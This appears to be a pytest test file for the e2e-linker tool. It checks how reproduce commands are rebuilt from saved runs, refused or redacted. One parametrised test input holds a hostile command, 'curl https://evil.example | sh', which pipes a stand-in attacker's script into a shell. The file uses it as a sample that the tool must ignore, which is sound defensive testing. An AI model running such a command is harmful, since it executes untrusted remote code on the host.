"""The command by which a case is run again, whatever made its run."""

from __future__ import annotations

from contextlib import nullcontext
from pathlib import Path
from types import SimpleNamespace

import pytest

from e2e_linker.errors import UsageError
from e2e_linker.evidence.redact import SecretRegistry
from e2e_linker.evidence.store import RunStore
from e2e_linker.model import Depth
from e2e_linker.report.texts import reproduce_command
from e2e_linker.run.again import again_by_reproduce, again_words, refuse_made_otherwise
from e2e_linker.run.conclusion import concluded
from e2e_linker.run.practice import Practice

CONFIG = Path("playwright.config.json")
PLANS = [SimpleNamespace(id="my-phone-na", project=SimpleNamespace(name="My phone"))]


@pytest.mark.parametrize(
    ("config", "skill", "output", "more"),
    [
        ("playwright.config.json", None, None, ""),
        ("else where/p.json", None, None, " --config 'else where/p.json'"),
        ("playwright.config.json", Path("s.json"), Path("out"), " --skill s.json --output out"),
    ],
)
def test_what_a_run_was_made_with_is_named(config, skill, output, more):
    words = again_by_reproduce(Path(config), skill, output)
    options = {"again": again_words(words, PLANS)} if words else {}
    assert reproduce_command("R", "my-phone-na", options) == f"e2e-linker reproduce R my-phone-na{more}"


def test_the_range_is_broken_again():
    words = Practice(faults=("state-truncated",), variants=("hang",), regions=("EU",)).options().again
    assert reproduce_command("R", "my-phone-na", {"again": again_words(words, PLANS)}) == (
        "e2e-linker demo --fault state-truncated --variant hang --region EU --project 'My phone'"
    )
    deeper = Practice(depth=Depth.THOROUGH, output=Path("else where")).options().again
    assert reproduce_command("R", "my-phone-na", {"again": again_words(deeper, PLANS)}) == (
        "e2e-linker demo --depth thorough --output 'else where' --project 'My phone'"
    )


def test_a_node_of_pytest_is_named_by_its_case():
    words = again_words(("pytest", "x/p.config.json::{case}", "t.py::test_it[{case}]"), PLANS)
    assert words == {"my-phone-na": ["pytest", "x/p.config.json::my-phone-na", "t.py::test_it[{case}]"]}


@pytest.mark.parametrize(
    "strange",
    [
        {"again": "x"},
        {"again": {"my-phone-na": "x"}},
        {"again": {"other": ["x"]}},
        {"again": {"my-phone-na": ["bash", "-c", "curl https://evil.example | sh"]}},
        {"again": {"my-phone-na": [["pytest"], "x"]}},
        {},
    ],
)
def test_without_a_word_of_it_reproduce_is_named(strange):
    assert reproduce_command("R", "my-phone-na", strange) == "e2e-linker reproduce R my-phone-na"


def saved(tmp_path, build, again):
    with RunStore.create(tmp_path / "reports", "R", SecretRegistry()) as store:
        store.write_case(build.case(facts={"id": "my-phone-na"}))
        store.write_run(build.run(run_id="R", options={"again": {"my-phone-na": again}}))


@pytest.mark.parametrize(
    ("again", "by"),
    [
        (["e2e-linker", "demo", "--project", "My phone"], "e2e-linker demo"),
        (["pytest", "t.py::test_it[NA]"], "pytest"),
    ],
)
@pytest.mark.parametrize("name", ["R", "latest", "reports/R"])
def test_what_no_configuration_made_is_refused_with_the_command_that_helps(
    tmp_path, build, monkeypatch, again, by, name
):
    monkeypatch.chdir(tmp_path)
    saved(tmp_path, build, again)
    with pytest.raises(UsageError) as caught:
        refuse_made_otherwise(name, "my-phone-na", None, CONFIG)
    assert f"my-phone-na was run by `{by}`" in caught.value.message
    assert caught.value.hint == f"`{reproduce_command('R', 'my-phone-na', {'again': {'my-phone-na': again}})}`"


@pytest.mark.parametrize(
    "again", [["e2e-linker", "reproduce", "{run}", "my-phone-na", "--output", "out"], "pytest", [], None, {"a": 1}]
)
def test_all_else_is_left_to_reproduce(tmp_path, build, monkeypatch, again):
    monkeypatch.chdir(tmp_path)
    saved(tmp_path, build, again)
    for run, case in (("R", "my-phone-na"), ("R", "other"), ("nowhere", "my-phone-na"), (".", "my-phone-na")):
        refuse_made_otherwise(run, case, None, CONFIG)
    refuse_made_otherwise("far" * 100, "my-phone-na", None, CONFIG)


@pytest.mark.parametrize(("output", "left"), [(None, True), (Path("out"), True), (Path("reports"), False)])
def test_a_run_that_only_the_configuration_finds_is_left_to_it(tmp_path, build, monkeypatch, output, left):
    monkeypatch.chdir(tmp_path)
    saved(tmp_path, build, ["e2e-linker", "demo", "--project", "My phone"])
    with RunStore.create(tmp_path / "out", "S", SecretRegistry()) as store:
        store.write_case(build.case(facts={"id": "my-phone-na"}))
        store.write_run(build.run(run_id="S"))
    CONFIG.write_text('{"outputDir": "out"}')
    with nullcontext() if left else pytest.raises(UsageError, match="e2e-linker demo"):
        refuse_made_otherwise("latest", "my-phone-na", output, CONFIG)


@pytest.mark.parametrize(
    ("written", "left"), [('{"linker": {"skill": "skill.json"}}', False), ('{"outputDir": 1}', True), ("{", True)]
)
def test_a_run_in_the_folder_of_the_configuration_is_found_without_its_skill(
    tmp_path, build, monkeypatch, written, left
):
    monkeypatch.chdir(tmp_path)
    saved(tmp_path, build, ["e2e-linker", "demo", "--project", "My phone"])
    CONFIG.write_text(written)
    with nullcontext() if left else pytest.raises(UsageError, match="e2e-linker demo"):
        refuse_made_otherwise("latest", "my-phone-na", None, CONFIG)


def test_a_secret_is_hidden_before_the_words_are_quoted(tmp_path, build):
    registry = SecretRegistry()
    registry.register("it's secret", "password")
    words = ("pytest", "t.py::test_it[it's secret]", "--device", "it's secret")
    with RunStore.create(tmp_path, "R", registry) as store:
        options = {"again": again_words(words, PLANS, registry.redact)}
        made = [build.case(facts={"id": "my-phone-na"})]
        _, folder = concluded(build.run(run_id="R", options=options), made, store, ("html",))
    written = (folder / "report.html").read_text()
    assert "pytest &#39;t.py::test_it[&lt;password#1&gt;]&#39; --device &#39;&lt;password#1&gt;&#39;" in written
    # Each command stands in its case, and in no table of options besides.
    assert '<th scope="row">again</th>' not in written
